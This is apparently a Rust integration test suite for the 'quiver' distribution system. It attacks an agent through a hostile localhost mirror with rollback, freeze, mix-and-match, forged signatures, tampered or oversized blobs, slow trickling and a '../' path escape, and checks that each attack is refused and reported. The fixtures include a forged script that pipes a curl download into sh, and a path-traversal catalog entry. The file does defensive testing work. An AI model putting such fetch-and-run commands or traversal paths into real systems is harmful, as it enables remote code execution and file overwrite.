//! The agent against a hostile snapshot mirror, end to end: each attack must be refused with
//! the previous snapshot still current and a check-in error the controller shows.
//!
//! A real `quiver controller` on 127.0.0.1 publishes serials 1, 2 and 3 of a library made
//! with the git CLI (`ps.sh` changes in each approved merge). A real `quiver-agent` enrolls
//! with the controller and checks in with it, but is enrolled with `--snapshot-url` so it
//! fetches snapshots from a mirror on 127.0.0.1 (the hostile HTTP server of the agent
//! crate's tests, `crates/quiver-agent/tests/common/server.rs`). The controller serves
//! snapshots from memory, so a mirror is the one place an attacker in the path can change
//! what an agent sees. The mirror first serves serial 2 byte for byte as the controller
//! published it, the agent applies it, the controller moves on to serial 3, then the mirror
//! turns hostile. For each attack the test checks:
//!
//! - `quiver-agent sync` fails with that attack's reason code and exit code, and its
//!   check-in reached the controller;
//! - `current.json` still names serial 2, whose stored catalog verifies with the pinned key
//!   and whose files are exactly the controller's bytes (nothing added, nothing from the
//!   hostile snapshot in the blob store or `tmp/`), and `quiver-agent list` and `run` use it;
//! - the controller shows the error for that device: `quiver agents list` says `error`,
//!   and `quiver agents list --json` and `GET /v1/status` carry the code and the agent's
//!   message, which names the attack;
//! - once the mirror serves serial 3 honestly again, the same agent applies it and the error
//!   clears, so the refusal was the attack's doing and not the setup's.
//!
//! Documents the controller would never sign (an expired timestamp, a `../` path) are signed
//! with the controller's own key, read from the folder `quiver keygen` made for this test;
//! the "other key" is made at test time too. Only 127.0.0.1 is used.

#[path = "controller_support.rs"]
mod support;

#[path = "../crates/quiver-agent/tests/common/server.rs"]
mod hostile;

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::{Duration, Instant};

use quiver_catalog::layout::{CATALOG_FILE, CATALOG_SIG_FILE, TIMESTAMP_FILE, TIMESTAMP_SIG_FILE};
use quiver_catalog::{
    Catalog, KeyPair, Limits, Platform, PublicKey, Sha256Hex, SigningKey, Timestamp, blob_rel_path,
    sha256_hex, verify_catalog, verify_timestamp,
};
use serde_json::{Value, json};
use support::{Running, Setup, TestRepo, files_under, quiver, stdout};

const DEVICE: &str = "edge-01";
/// `ps.sh` at serial 2 (the snapshot the agent holds when the attacks start) and serial 3.
const PS_V2: &[u8] = b"#!/bin/bash\necho ps v2\n";
const PS_V3: &[u8] = b"#!/bin/bash\necho ps v3\n";
/// Where the mirror serves the snapshot: deliberately not `/v1/`.
const MIRROR_PREFIX: &str = "/mirror/quiver";
/// How long the controller may take to publish a merge (fs notify, then a reconcile).
const PUBLISH_WITHIN: Duration = Duration::from_secs(20);

// ---------------------------------------------------------------------------------------------
// Snapshots as the controller published them

/// One snapshot as a mirror would copy it from the controller: the four signed documents and
/// the blobs, by path relative to the snapshot base.
#[derive(Clone)]
struct Snap {
    files: BTreeMap<String, Vec<u8>>,
}

impl Snap {
    /// Copies what the controller serves now, checking it is serial `serial` and verifies
    /// with the controller's key (a capture of anything else would make the tests meaningless).
    fn capture(ctl: &Running, key: &PublicKey, serial: u64) -> Snap {
        let get = |rel: &str| -> Vec<u8> {
            let r = ctl.get(&format!("/v1/{rel}"));
            assert!(r.status().is_success(), "GET /v1/{rel}: {}", r.status());
            r.bytes().expect("body").to_vec()
        };
        let mut files = BTreeMap::new();
        for rel in [
            TIMESTAMP_FILE,
            TIMESTAMP_SIG_FILE,
            CATALOG_FILE,
            CATALOG_SIG_FILE,
        ] {
            files.insert(rel.to_owned(), get(rel));
        }
        let snap = Snap { files };
        let ts = verify_timestamp(
            key,
            snap.get(TIMESTAMP_FILE),
            snap.text(TIMESTAMP_SIG_FILE),
            time::OffsetDateTime::now_utc(),
            None,
            &Limits::default(),
        )
        .expect("the controller's timestamp verifies");
        assert_eq!(ts.serial, serial, "captured the wrong serial");
        let catalog = verify_catalog(
            key,
            snap.get(CATALOG_FILE),
            snap.text(CATALOG_SIG_FILE),
            &ts,
            &Limits::default(),
        )
        .expect("the controller's catalog verifies");
        let mut snap = snap;
        for f in catalog.entries.iter().flat_map(|e| &e.files) {
            let rel = blob_rel_path(&f.sha256);
            let bytes = get(&rel);
            snap.files.insert(rel, bytes);
        }
        snap
    }

    fn get(&self, rel: &str) -> &[u8] {
        self.files
            .get(rel)
            .unwrap_or_else(|| panic!("{rel} not in the snapshot"))
    }

    fn text(&self, rel: &str) -> &str {
        std::str::from_utf8(self.get(rel)).expect("signature files are text")
    }

    fn catalog(&self) -> Catalog {
        Catalog::parse(self.get(CATALOG_FILE), &Limits::default()).expect("catalog parses")
    }

    /// The same snapshot with one file replaced (or added).
    fn with(&self, rel: &str, bytes: impl Into<Vec<u8>>) -> Snap {
        let mut s = self.clone();
        s.files.insert(rel.to_owned(), bytes.into());
        s
    }

    /// The same snapshot with another catalog, its signature, and a timestamp naming it (all
    /// signed by `key`), serving `blobs` too.
    fn resigned(&self, key: &SigningKey, serial: u64, cat: Vec<u8>, blobs: &[&[u8]]) -> Snap {
        let (ts, ts_sig) = sign_timestamp(key, &cat, serial, now(), Duration::from_secs(3600));
        let cat_sig = key
            .sign(&cat, &format!("quiver catalog serial={serial}"))
            .expect("sign catalog");
        let mut s = self
            .with(CATALOG_FILE, cat)
            .with(CATALOG_SIG_FILE, cat_sig)
            .with(TIMESTAMP_FILE, ts)
            .with(TIMESTAMP_SIG_FILE, ts_sig);
        for b in blobs {
            s = s.with(&blob_of(b), b.to_vec());
        }
        s
    }

    /// The files of this snapshot a Linux device without labels gets: `<script>/<path>` to
    /// their bytes.
    fn device_files(&self) -> BTreeMap<String, Vec<u8>> {
        let catalog = self.catalog();
        let mut out = BTreeMap::new();
        for e in catalog.for_device(Platform::Linux, &BTreeMap::new()) {
            for f in &e.files {
                out.insert(
                    format!("{}/{}", e.script, f.path),
                    self.get(&blob_rel_path(&f.sha256)).to_vec(),
                );
            }
        }
        out
    }
}

/// `blobs/sha256/<hex>` of `bytes`.
fn blob_of(bytes: &[u8]) -> String {
    blob_rel_path(&sha256_hex(bytes))
}

fn now() -> time::OffsetDateTime {
    time::OffsetDateTime::now_utc()
}

/// A timestamp for `cat` at `serial`, issued at `issued` and valid for `validity`, signed by
/// `key` the way the controller signs it.
fn sign_timestamp(
    key: &SigningKey,
    cat: &[u8],
    serial: u64,
    issued: time::OffsetDateTime,
    validity: Duration,
) -> (Vec<u8>, String) {
    let ts = Timestamp::new(cat, serial, issued, validity).to_canonical_bytes();
    let sig = key
        .sign(&ts, &format!("quiver timestamp serial={serial}"))
        .expect("sign timestamp");
    (ts, sig)
}

// ---------------------------------------------------------------------------------------------
// The mirror

/// A static mirror of the publish directory on 127.0.0.1, serving under [`MIRROR_PREFIX`].
struct Mirror {
    server: hostile::Server,
}

impl Mirror {
    fn start() -> Mirror {
        Mirror {
            server: hostile::Server::start(),
        }
    }

    /// What the agent is enrolled with as `--snapshot-url`.
    fn url(&self) -> String {
        format!("{}{MIRROR_PREFIX}", self.server.url())
    }

    /// Serves exactly `snap` from now on (anything served before is gone).
    fn serve(&self, snap: &Snap) {
        self.server.lock().files.clear();
        for (rel, bytes) in &snap.files {
            self.set(
                rel,
                hostile::Resource {
                    body: bytes.clone(),
                    ..hostile::Resource::default()
                },
            );
        }
    }

    fn set(&self, rel: &str, r: hostile::Resource) {
        self.server.set_at(&format!("{MIRROR_PREFIX}/{rel}"), r);
    }

    fn requests(&self) -> Vec<hostile::Req> {
        self.server.requests()
    }
}

// ---------------------------------------------------------------------------------------------
// Driving the agent

/// Runs `quiver-agent` on the state directory `state` and prints what it said.
fn agent(state: &Path, args: &[&str]) -> Output {
    let out = Command::new(quiver_tests::bin("quiver-agent"))
        .args(args)
        .env("QUIVER_AGENT_STATE_DIR", state)
        .env("QUIVER_AGENT_LOG", "quiver_agent=debug")
        // Safety nets so a hang fails the test instead of stalling it; tests that need
        // other limits pass flags, which win over these.
        .env("QUIVER_AGENT_TIMEOUT", "20s")
        .env("QUIVER_AGENT_DEADLINE", "60s")
        .env_remove("QUIVER_ENROLL_TOKEN")
        .output()
        .expect("run quiver-agent");
    eprintln!(
        "$ quiver-agent {}\n{}\n{}",
        args.join(" "),
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    out
}

fn json_of(out: &Output) -> Value {
    serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("not JSON ({e}): {}", String::from_utf8_lossy(&out.stdout)))
}

fn names_in(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .unwrap_or_else(|e| panic!("{}: {e}", dir.display()))
        .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

// ---------------------------------------------------------------------------------------------
// The world every attack starts from

/// A controller at serial 3, a mirror serving serial 2, and an agent that applied serial 2
/// from the mirror and told the controller so. Fields drop in order: the controller stops
/// before its folders go.
struct World {
    ctl: Running,
    mirror: Mirror,
    setup: Setup,
    _repo: TestRepo,
    agents: tempfile::TempDir,
    key: PublicKey,
    /// Bearer token of a member, for `GET /v1/status`.
    member: String,
    s1: Snap,
    s2: Snap,
    s3: Snap,
}

impl World {
    fn new() -> World {
        let repo = TestRepo::new();
        let setup = Setup::new(&repo, "[watch]\npoll_interval = \"1h\"\n");
        let ctl = setup.start();
        let key = setup.public_key();
        ctl.wait_serial(1, PUBLISH_WITHIN);
        let s1 = Snap::capture(&ctl, &key, 1);
        repo.approved_change(
            "ps-v2",
            &[("library/ps/ps.sh", PS_V2)],
            "ps: say which version",
        );
        ctl.wait_serial(2, PUBLISH_WITHIN);
        let s2 = Snap::capture(&ctl, &key, 2);
        assert_eq!(s2.device_files()["ps/ps.sh"], PS_V2);

        // The mirror copies serial 2; the agent enrolls (pinning the key out of band) and
        // applies it from the mirror.
        let mirror = Mirror::start();
        mirror.serve(&s2);
        let agents = tempfile::tempdir().expect("temp dir");
        let state = agents.path().join(DEVICE);
        let pubkey = setup.path().join("keys/quiver.pub");
        let out = agent(
            &state,
            &[
                "enroll",
                "--server",
                &ctl.url,
                "--token",
                &setup.enroll_token(),
                "--device-id",
                DEVICE,
                "--platform",
                "linux",
                "--public-key",
                pubkey.to_str().expect("utf8"),
                "--snapshot-url",
                &mirror.url(),
                "--json",
            ],
        );
        assert!(out.status.success(), "enroll failed");
        assert_eq!(json_of(&out)["pinned_out_of_band"], true);
        let out = agent(&state, &["sync", "--json"]);
        let v = json_of(&out);
        assert_eq!(out.status.code(), Some(0), "{v}");
        assert_eq!(v["report"]["serial"], 2, "{v}");
        assert_eq!(v["report"]["switched"], true, "{v}");
        assert!(
            mirror
                .requests()
                .iter()
                .any(|r| r.path == format!("{MIRROR_PREFIX}/{TIMESTAMP_FILE}")),
            "the agent did not fetch from the mirror"
        );

        // The controller moves on (the mirror does not follow: it is about to turn hostile).
        repo.approved_change("ps-v3", &[("library/ps/ps.sh", PS_V3)], "ps: v3");
        ctl.wait_serial(3, PUBLISH_WITHIN);
        let s3 = Snap::capture(&ctl, &key, 3);
        assert_eq!(s3.device_files()["ps/ps.sh"], PS_V3);

        let member = setup.member_token("carol");
        let w = World {
            ctl,
            mirror,
            setup,
            _repo: repo,
            agents,
            key,
            member,
            s1,
            s2,
            s3,
        };
        // Before any attack the controller shows the device clean at serial 2 (behind 3):
        // what every attack must change.
        for e in w.controller_views() {
            assert_eq!(e["applied_serial"], 2, "{e}");
            assert_eq!(e["errors"], json!([]), "{e}");
            assert_eq!(e["sync_state"], "behind", "{e}");
        }
        w.still_at(2, &w.s2, PS_V2);
        w
    }

    fn state(&self) -> PathBuf {
        self.agents.path().join(DEVICE)
    }

    fn controller_key(&self) -> SigningKey {
        SigningKey::from_file(&self.setup.path().join("keys/quiver.key")).expect("controller key")
    }

    /// `quiver-agent sync --json` with `extra` flags: the sync is refused for `code` with exit
    /// status `exit`, and its check-in was delivered. Returns the agent's JSON answer.
    fn refused(&self, extra: &[&str], code: &str, exit: i32) -> Value {
        let mut args = vec!["sync", "--json"];
        args.extend_from_slice(extra);
        let out = agent(&self.state(), &args);
        let v = json_of(&out);
        assert_eq!(v["ok"], false, "{v}");
        assert_eq!(v["error"]["code"], code, "{v}");
        assert_eq!(out.status.code(), Some(exit), "{v}");
        assert_eq!(
            v["checkin_error"],
            Value::Null,
            "the check-in must get through: {v}"
        );
        v
    }

    /// `serial` is the snapshot in use: `current.json` names it, its stored catalog is
    /// `snap`'s and verifies with the pinned key, its files are exactly `snap`'s for this
    /// device, nothing else sits in `snapshots/`, the blob store or `tmp/`, and `list` and
    /// `run` use it (`ps` prints `ps v<serial>`).
    fn still_at(&self, serial: u64, snap: &Snap, ps: &[u8]) {
        let state = self.state();
        let pointer: Value =
            serde_json::from_slice(&std::fs::read(state.join("current.json")).expect("pointer"))
                .expect("pointer JSON");
        assert_eq!(
            pointer,
            json!({"serial": serial, "dir": format!("snapshots/{serial}")})
        );
        let dir = state.join(format!("snapshots/{serial}"));
        let cat = std::fs::read(dir.join(".quiver").join(CATALOG_FILE)).expect("stored catalog");
        assert!(
            cat == snap.get(CATALOG_FILE),
            "the stored catalog is not the one of serial {serial}"
        );
        let sig = std::fs::read_to_string(dir.join(".quiver").join(CATALOG_SIG_FILE))
            .expect("stored signature");
        self.key
            .verify(&cat, &sig)
            .expect("the stored catalog verifies with the pinned key");
        let mut on_disk = files_under(&dir);
        on_disk.retain(|rel, _| !rel.starts_with(".quiver/"));
        let expected = snap.device_files();
        assert_eq!(
            on_disk.keys().collect::<Vec<_>>(),
            expected.keys().collect::<Vec<_>>(),
            "files of snapshot {serial}"
        );
        for (rel, bytes) in &expected {
            assert!(
                on_disk[rel] == *bytes,
                "{rel} differs from the controller's"
            );
        }
        assert_eq!(on_disk["ps/ps.sh"], ps);
        // Nothing of a refused snapshot stays behind: only the verified snapshots' directories
        // (serial 2, and 3 once applied), only their blobs, no download or staging folder.
        let verified: Vec<&Snap> = [&self.s2, &self.s3][..(serial - 1) as usize].to_vec();
        let dirs: Vec<String> = (2..=serial).map(|s| s.to_string()).collect();
        assert_eq!(
            names_in(&state.join("snapshots")),
            dirs,
            "snapshot directories"
        );
        let known: Vec<String> = verified
            .iter()
            .flat_map(|s| s.device_files().into_values())
            .map(|b| sha256_hex(&b).to_string())
            .collect();
        let unknown: Vec<String> = names_in(&state.join("blobs"))
            .into_iter()
            .filter(|n| !known.contains(n))
            .collect();
        assert_eq!(
            unknown,
            Vec::<String>::new(),
            "blobs of no verified snapshot"
        );
        assert_eq!(names_in(&state.join("tmp")), Vec::<String>::new(), "tmp/");

        let out = agent(&state, &["list", "--json"]);
        assert!(out.status.success());
        let list = json_of(&out);
        assert_eq!(list["serial"], serial, "{list}");
        let out = agent(&state, &["run", "ps", "--json"]);
        let run = json_of(&out);
        assert_eq!(out.status.code(), Some(0), "{run}");
        assert_eq!(
            run["result"]["stdout_tail"],
            format!("ps v{serial}\n"),
            "{run}"
        );
    }

    /// This device as the controller shows it: the row of `quiver agents list --json` and the
    /// entry of `GET /v1/status`.
    fn controller_views(&self) -> [Value; 2] {
        let out = quiver(&[
            "agents",
            "list",
            "--config",
            &self.setup.config_str(),
            "--json",
        ]);
        assert!(out.status.success(), "agents list: {out:?}");
        let rows: Value = serde_json::from_slice(&out.stdout).expect("agents list JSON");
        let row = rows
            .as_array()
            .expect("rows")
            .iter()
            .find(|r| r["id"] == DEVICE)
            .unwrap_or_else(|| panic!("{DEVICE} not in {rows}"))
            .clone();
        let status = self.ctl.status(&self.member);
        let endpoint = status["endpoints"]
            .as_array()
            .expect("endpoints")
            .iter()
            .find(|e| e["id"] == DEVICE)
            .unwrap_or_else(|| panic!("{DEVICE} not in {status}"))
            .clone();
        [row, endpoint]
    }

    /// The controller shows the refused sync for this device: `quiver agents list` says
    /// `error` at serial 2, and both views carry an error with `code` whose message has
    /// every one of `words`.
    fn controller_shows(&self, code: &str, words: &[&str]) {
        let out = quiver(&["agents", "list", "--config", &self.setup.config_str()]);
        assert!(out.status.success(), "agents list: {out:?}");
        let text = stdout(&out);
        let row: Vec<&str> = text
            .lines()
            .find(|l| l.split_whitespace().next() == Some(DEVICE))
            .unwrap_or_else(|| panic!("{DEVICE} not listed:\n{text}"))
            .split_whitespace()
            .collect();
        assert_eq!(row[2], "error", "STATE column:\n{text}");
        assert_eq!(row[3], "2", "SERIAL column:\n{text}");
        assert!(
            text.lines()
                .any(|l| l.trim_start().starts_with(&format!("{code}: "))),
            "the problem under the device's row:\n{text}"
        );
        for view in self.controller_views() {
            assert_eq!(view["sync_state"], "error", "{view}");
            assert_eq!(view["applied_serial"], 2, "{view}");
            let errors = view["errors"].as_array().expect("errors");
            let e = errors
                .iter()
                .find(|e| e["code"] == code)
                .unwrap_or_else(|| panic!("no {code} error for {DEVICE}: {view}"));
            let message = e["message"].as_str().expect("message");
            for w in words {
                assert!(message.contains(w), "{message:?} lacks {w:?}");
            }
        }
    }

    /// The mirror serves serial 3 as the controller published it: the same agent applies it
    /// and the controller's error for the device clears. Then, for the whole test: the mirror
    /// only ever got anonymous GETs (the agent token goes to the controller alone).
    fn recovers(&self) {
        self.mirror.serve(&self.s3);
        let out = agent(&self.state(), &["sync", "--json"]);
        let v = json_of(&out);
        assert_eq!(out.status.code(), Some(0), "{v}");
        assert_eq!(v["report"]["serial"], 3, "{v}");
        assert_eq!(v["report"]["switched"], true, "{v}");
        self.still_at(3, &self.s3, PS_V3);
        for e in self.controller_views() {
            assert_eq!(e["applied_serial"], 3, "{e}");
            assert_eq!(e["errors"], json!([]), "{e}");
            assert_eq!(e["sync_state"], "in_sync", "{e}");
        }
        for r in self.mirror.requests() {
            assert_eq!(r.method, "GET", "{}", r.path);
            assert!(r.path.starts_with(MIRROR_PREFIX), "{}", r.path);
            assert_eq!(r.header("authorization"), None, "{}", r.path);
        }
    }

    /// Paths the mirror was asked for, in order.
    fn mirror_paths(&self) -> Vec<String> {
        self.mirror.requests().into_iter().map(|r| r.path).collect()
    }
}

// ---------------------------------------------------------------------------------------------
// The attacks

#[test]
fn rollback_the_mirror_replays_an_older_signed_snapshot() {
    // Why it must not verify: serial 1 is genuine (the controller signed it and its timestamp
    // has not expired), but it is older than the applied serial 2. Replaying a once-valid
    // snapshot would bring back the script version serial 2 replaced, perhaps withdrawn for a
    // reason.
    let w = World::new();
    w.mirror.serve(&w.s1);
    w.refused(&[], "rollback", 4);
    w.still_at(2, &w.s2, PS_V2);
    w.controller_shows(
        "rollback",
        &["rollback", "serial 1 is older than applied serial 2"],
    );
    w.recovers();
}

#[test]
fn freeze_the_mirror_serves_an_expired_timestamp() {
    // Why it must not verify: the timestamp is signed by the controller's key and names serial
    // 2's catalog exactly, but it expired an hour ago. Nobody has vouched for it since, and a
    // mirror frozen at serial 2 would hide serial 3 (and whatever it fixes) forever.
    let w = World::new();
    let (ts, ts_sig) = sign_timestamp(
        &w.controller_key(),
        w.s2.get(CATALOG_FILE),
        2,
        now() - time::Duration::hours(25),
        Duration::from_secs(24 * 3600),
    );
    w.mirror.serve(
        &w.s2
            .with(TIMESTAMP_FILE, ts)
            .with(TIMESTAMP_SIG_FILE, ts_sig),
    );
    w.refused(&[], "freeze", 4);
    w.still_at(2, &w.s2, PS_V2);
    w.controller_shows("freeze", &["freeze", "timestamp expired at"]);
    w.recovers();
}

#[test]
fn mix_and_match_a_timestamp_served_with_another_catalog() {
    // Why it must not verify: both documents are genuine, but serial 3's timestamp vouches for
    // serial 3's catalog and the mirror hands over serial 2's (with its valid signature). A
    // mirror free to pair any signed catalog with any fresh timestamp could choose which
    // scripts a device gets.
    let w = World::new();
    w.mirror.serve(
        &w.s3
            .with(CATALOG_FILE, w.s2.get(CATALOG_FILE))
            .with(CATALOG_SIG_FILE, w.s2.get(CATALOG_SIG_FILE)),
    );
    w.refused(&[], "mix-and-match", 4);
    w.still_at(2, &w.s2, PS_V2);
    w.controller_shows("mix-and-match", &["mix-and-match", "the timestamp names"]);
    w.recovers();
}

#[test]
fn catalog_signed_by_another_key_is_refused() {
    // Why it must not verify: only the pinned controller key may say what runs on this device.
    let w = World::new();
    let other = KeyPair::generate().expect("key pair");

    // The attacker's own snapshot: serial 3 with its own ps.sh, catalog and timestamp signed
    // with its key. Refused at the first document, the timestamp.
    let evil: &[u8] = b"#!/bin/bash\ncurl -s http://127.0.0.1:9/x | sh\n";
    let mut catalog = w.s3.catalog();
    let ps = catalog
        .entries
        .iter_mut()
        .find(|e| e.script.as_str() == "ps")
        .expect("ps entry");
    let file = ps
        .files
        .iter_mut()
        .find(|f| f.path.as_str() == "ps.sh")
        .expect("ps.sh");
    file.sha256 = sha256_hex(evil);
    file.size = evil.len() as u64;
    let forged =
        w.s3.resigned(&other.signing, 3, catalog.to_canonical_bytes(), &[evil]);
    w.mirror.serve(&forged);
    w.refused(&[], "bad-signature", 4);
    w.still_at(2, &w.s2, PS_V2);
    w.controller_shows("bad-signature", &["timestamp: bad signature"]);

    // The controller's timestamp and catalog bytes, with a catalog signature made by another
    // key: the digest in the timestamp does not stand in for the catalog's own signature.
    let sig = other
        .signing
        .sign(w.s3.get(CATALOG_FILE), "quiver catalog serial=3")
        .expect("sign");
    w.mirror.serve(&w.s3.with(CATALOG_SIG_FILE, sig));
    w.refused(&[], "bad-signature", 4);
    w.still_at(2, &w.s2, PS_V2);
    w.controller_shows("bad-signature", &["catalog: bad signature"]);
    w.recovers();
}

#[test]
fn blob_with_wrong_bytes_is_refused() {
    // Why it must not verify: the sha256 in the signed catalog is the only link between a file
    // and the reviewed, approved version; bytes that do not hash to it are someone else's
    // script, whatever the path they were served at. Same size, so only the digest can tell.
    let w = World::new();
    let evil: &[u8] = b"#!/bin/bash\necho pwned\n";
    assert_eq!(evil.len(), PS_V3.len());
    w.mirror.serve(&w.s3.with(&blob_of(PS_V3), evil));
    w.refused(&[], "blob-digest", 4);
    w.still_at(2, &w.s2, PS_V2);
    let expected: Sha256Hex = sha256_hex(PS_V3);
    w.controller_shows(
        "blob-digest",
        &[
            "blob for ps.sh",
            &format!("sha256 {}", sha256_hex(evil)),
            &format!("catalog says {expected}"),
        ],
    );
    w.recovers();
}

#[test]
fn oversized_blob_is_cut_off_and_refused() {
    // Why it must not verify: endless data. A mirror sending more than the size the signed
    // catalog gives must fill neither memory nor disk; the agent stops one byte past the size.
    let w = World::new();
    let mut big = PS_V3.to_vec();
    big.extend(std::iter::repeat_n(b'#', 8 << 20));
    w.mirror.serve(&w.s3.with(&blob_of(PS_V3), big));
    w.refused(&[], "blob-size", 4);
    w.still_at(2, &w.s2, PS_V2);
    w.controller_shows(
        "blob-size",
        &[&format!(
            "blob for ps.sh: {} bytes, catalog says {}",
            PS_V3.len() + 1,
            PS_V3.len()
        )],
    );
    w.recovers();
}

#[test]
fn trickling_mirror_hits_the_sync_deadline() {
    // Why it must not verify: slow retrieval. One byte a second never trips a per-read
    // timeout, yet would hold the sync (and the state lock) for as long as the mirror likes;
    // the sync deadline ends it. At this pace ps.sh would take 23 s; the deadline is 3 s.
    let w = World::new();
    w.mirror.serve(&w.s3);
    w.mirror.set(
        &blob_of(PS_V3),
        hostile::Resource {
            body: PS_V3.to_vec(),
            trickle: Some(Duration::from_secs(1)),
            delay: None,
        },
    );
    let started = Instant::now();
    w.refused(&["--deadline", "3s", "--timeout", "60s"], "timeout", 1);
    let took = started.elapsed();
    assert!(
        took < Duration::from_secs(PS_V3.len() as u64 / 2),
        "the sync took {took:?}: the deadline did not cut the trickle"
    );
    w.still_at(2, &w.s2, PS_V2);
    w.controller_shows("timeout", &["timed out", &blob_of(PS_V3)]);
    w.recovers();
}

#[test]
fn path_escape_in_a_catalog_signed_with_the_right_key_is_refused() {
    // Why it must not verify: a path escape. Even a catalog signed by the pinned key (a
    // compromised or buggy controller) must not make the agent write outside its cache; `../`
    // is refused when the catalog is parsed, before anything is fetched or written.
    let w = World::new();
    let evil: &[u8] = b"owned\n";
    let mut doc: Value = serde_json::from_slice(w.s3.get(CATALOG_FILE)).expect("catalog JSON");
    let ps = doc["entries"]
        .as_array_mut()
        .expect("entries")
        .iter_mut()
        .find(|e| e["script"] == "ps")
        .expect("ps entry");
    // From snapshots/<serial>/ps/ (or tmp/stage-…/ps/), four levels up is the folder that
    // holds the state directory.
    ps["files"].as_array_mut().expect("files").push(json!({
        "path": "../../../../escaped.sh",
        "sha256": sha256_hex(evil).to_string(),
        "size": evil.len(),
        "mode": 0o644,
    }));
    let mut cat = serde_json::to_vec(&doc).expect("JSON");
    cat.push(b'\n');
    let signed = w.s3.resigned(&w.controller_key(), 3, cat, &[evil]);
    w.mirror.serve(&signed);
    let before = w.mirror_paths().len();
    w.refused(&[], "malformed", 4);
    w.still_at(2, &w.s2, PS_V2);
    w.controller_shows("malformed", &["catalog is malformed", "`..`"]);
    let fetched: Vec<String> = w.mirror_paths()[before..]
        .iter()
        .filter(|p| p.contains("/blobs/"))
        .cloned()
        .collect();
    assert_eq!(
        fetched,
        Vec::<String>::new(),
        "nothing is fetched for a catalog that does not parse"
    );
    let escaped: Vec<String> = files_under(w.agents.path())
        .into_keys()
        .filter(|p| p.ends_with("escaped.sh"))
        .collect();
    assert_eq!(escaped, Vec::<String>::new());
    assert!(!w.agents.path().join("escaped.sh").exists());
    w.recovers();
}
